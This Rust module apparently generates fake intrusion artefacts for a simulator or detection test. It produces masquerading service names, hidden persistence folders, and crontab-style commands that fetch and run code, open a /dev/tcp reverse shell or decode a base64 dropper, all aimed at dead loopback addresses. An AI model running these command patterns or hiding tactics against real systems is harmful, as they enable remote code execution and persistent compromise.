//! Names and places as intruders choose them: like something that belongs there, or where nobody looks.

use crate::random::Random;

const FIRST: &[&str] = &[
    "dbus",
    "systemd",
    "net",
    "udev",
    "snap",
    "polkit",
    "acpi",
    "kernel",
    "gnome",
    "apt",
    "cups",
    "rsys",
    "ntp",
    "audit",
    "lvm",
    "multipath",
    "irq",
    "crypt",
    "font",
    "locale",
    "pkg",
    "cloud",
    "xfs",
    "session",
    "mail",
];
const SECOND: &[&str] = &[
    "helper", "monitor", "watch", "cache", "agent", "worker", "sync", "update", "guard", "query", "daemon",
    "resolve", "refresh", "clean", "check", "notify", "launch", "bridge", "stats", "health",
];

/// A name like that of a system service.
pub(super) fn service(random: &mut Random) -> String {
    match random.below(4) {
        0 => format!("{}{}", random.pick(FIRST), random.pick(&["d", "ctl", "mgr", "x"])),
        1 => format!("{}-{}", random.pick(FIRST), random.pick(SECOND)),
        2 => format!("{}-{}d", random.pick(FIRST), random.pick(SECOND)),
        _ => format!("{}_{}{}", random.pick(FIRST), random.pick(SECOND), random.below(9)),
    }
}

/// A meaningless name, as droppers make them.
pub(super) fn random_name(random: &mut Random) -> String {
    let length = 5 + random.below(6);
    if random.below(2) == 0 { random.letters(length) } else { random.hex(length) }
}

/// A hidden folder in a place that everybody may write to.
pub(super) fn hidden_folder(random: &mut Random) -> String {
    let place = random.pick(&["/var/tmp", "/tmp", "/dev/shm", "/var/tmp", "/var/spool/cron"]);
    let place = if place == "/var/spool/cron" { "/var/tmp" } else { place };
    let name = match random.below(6) {
        0 => "...".to_owned(),
        1 => format!(".{}", random.letters(1)),
        2 => format!(".{}-unix", random.pick(&["ICE", "XIM", "font", "X25"])),
        3 => format!(".{}", random.hex(8)),
        4 => ".. ".to_owned(),
        _ => format!(".{}", service(random)),
    };
    format!("{place}/{name}")
}

/// A place on disk where nobody looks, which survives a reboot and takes ordinary modes.
pub(super) fn kept_folder(random: &mut Random) -> String {
    match random.below(5) {
        0 => format!("/var/tmp/.{}", random.hex(6)),
        1 => format!("/usr/share/man/.{}", random.letters(3)),
        2 => format!("/var/lib/.{}", service(random)),
        3 => format!("/usr/lib/.{}", random.letters(4)),
        _ => format!("/var/cache/.{}", service(random)),
    }
}

/// A system folder for programs, where a file without a package stands out to those who ask.
pub(super) fn system_folder(random: &mut Random) -> &'static str {
    random.pick(&["/usr/lib/systemd", "/usr/libexec", "/usr/sbin", "/usr/bin", "/usr/lib", "/lib/udev"])
}

/// A loopback address and a port on which nothing listens, in the role of the intruder's server.
pub(super) fn nowhere(random: &mut Random) -> String {
    format!("127.{}.{}.{}:9", random.below(200), random.below(250), 1 + random.below(250))
}

/// A command line that fetches something and runs it, as it is found in real crontabs; it reaches nobody.
pub(super) fn fetch_and_run(random: &mut Random) -> String {
    let from = nowhere(random);
    let name = random_name(random);
    match random.below(6) {
        0 => format!("curl -fsSL http://{from}/{name}.sh | bash"),
        1 => format!("wget -q -O - http://{from}/{name} | sh"),
        2 => format!("(curl -s {from}/{name}||wget -qO- {from}/{name})|bash -s"),
        3 => format!("bash -c \"bash -i >& /dev/tcp/{}/9 0>&1\"", from.trim_end_matches(":9")),
        4 => format!("echo {}|base64 -d|sh", encoded(&format!("exit 0; curl {from}/{name}|sh"))),
        _ => {
            let place = hidden_folder(random).replace(' ', "");
            format!("wget -q http://{from}/{name} -O {place}; chmod +x {place}; {place}")
        }
    }
}

/// Base64, as droppers wrap their commands.
pub(super) fn encoded(text: &str) -> String {
    use base64::Engine as _;
    base64::engine::general_purpose::STANDARD.encode(text)
}

/// The multiarch folder of the victim's libraries.
pub(super) fn libraries() -> String {
    format!("/usr/lib/{}-linux-gnu", std::env::consts::ARCH)
}
